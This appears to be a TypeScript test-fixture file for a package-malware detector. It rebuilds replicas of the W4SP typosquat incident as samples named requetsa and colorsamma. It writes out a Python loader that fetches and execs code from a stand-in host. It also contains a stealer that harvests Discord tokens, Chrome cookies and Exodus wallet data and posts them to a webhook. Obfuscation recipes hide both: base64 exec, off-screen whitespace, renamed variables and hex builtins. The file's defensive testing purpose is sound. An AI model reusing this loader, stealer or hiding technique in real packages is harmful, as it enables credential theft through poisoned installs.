import { casesOf, type Facts } from '../case';
import { builtinsHex, execBase64, lambdaReversed, offScreen, renamed } from '../disguise/python';
import { sdistOf, wheelOf } from '../packages';

const staged = (host: string) => `from tempfile import NamedTemporaryFile as _ffile
from sys import executable as _eexecutable
from os import system as _ssystem
_ttmp = _ffile(delete=False)
_ttmp.write(b"""from urllib.request import urlopen as _uurlopen;exec(_uurlopen('http://${host}/inject/Wz9k').read())""")
_ttmp.close()
try: _ssystem(f"start {_eexecutable.replace('.exe', 'w.exe')} {_ttmp.name}")
except: pass
`;

const grabber = (host: string) => `import os, re, json
from urllib.request import Request, urlopen
HOOK = "https://${host}/api/webhooks/1/inert"
def tokens(path):
    found = []
    leveldb = os.path.join(path, "Local Storage", "leveldb")
    for name in os.listdir(leveldb):
        if not name.endswith((".log", ".ldb")):
            continue
        for line in open(os.path.join(leveldb, name), errors="ignore"):
            found += re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", line)
    return found
def cookies(path):
    with open(os.path.join(path, "Default", "Network", "Cookies"), "rb") as source:
        return len(source.read())
roaming, local = os.getenv("APPDATA") or "", os.getenv("LOCALAPPDATA") or ""
loot = {}
for name, path in {"Discord": roaming + "/discord", "Chrome": local + "/Google/Chrome/User Data", "Exodus": roaming + "/Exodus/exodus.wallet"}.items():
    try:
        loot[name] = [tokens(path), cookies(path)]
    except OSError:
        pass
try:
    urlopen(Request(HOOK, json.dumps({"content": json.dumps(loot)}).encode(), {"Content-Type": "application/json"}))
except OSError:
    pass
`;

const FACTS: Facts = {
  now: '2022-11-02T12:00:00Z',
  publishedAt: '2022-11-02T10:00:00Z',
  firstPublishedAt: '2022-11-02T10:00:00Z',
  publisher: 'fresh-account',
  takenFor: 'requests',
};

export const w4sp = casesOf({
  id: 'w4sp',
  incident: 'w4sp',
  kind: 'import-time',
  seen: 'a typosquat whose __init__ executes a decoded string, pushed off-screen by spaces, that fetches a second stage',
  replica: {
    sample: wheelOf('requetsa', '2.28.4', {
      about: 'HTTP for people.',
      init: (honest) =>
        `${offScreen('import sys', execBase64(staged('zerotwo-best.invalid')).replace(/\n/, ';'))}${honest}`,
    }),
    facts: FACTS,
  },
  renamed: {
    sample: wheelOf('colorsamma', '0.4.7', {
      about: 'Colours for terminals.',
      init: (honest) =>
        `${offScreen(
          '__author__ = "Robin"',
          execBase64(
            renamed(staged('wasp-plague.invalid'), {
              _ffile: 'TF',
              _eexecutable: 'EX',
              _ssystem: 'SY',
              _ttmp: 'handle',
              _uurlopen: 'uo',
              Wz9k: 'g7',
            }),
          ).replace(/\n/, ';'),
        )}${honest}`,
    }),
    facts: { ...FACTS, takenFor: 'colorama' },
  },
  reObfuscated: {
    sample: wheelOf('requetsa', '2.28.5', {
      about: 'HTTP for people.',
      init: (honest) => honest + lambdaReversed(builtinsHex(grabber('zerotwo-best.invalid'))),
    }),
    facts: FACTS,
  },
  otherStage: {
    kind: 'setup-py',
    seen: 'setup.py executes a decoded string, pushed off-screen by spaces, that fetches a second stage',
    sample: sdistOf('requetsa', '2.28.6', {
      about: 'HTTP for people.',
      setup: (honest) =>
        honest.replace(/^.*\n/, (line) =>
          offScreen(line.trim(), execBase64(staged('zerotwo-best.invalid')).replace(/\n/, ';')),
        ),
    }),
    facts: FACTS,
  },
});
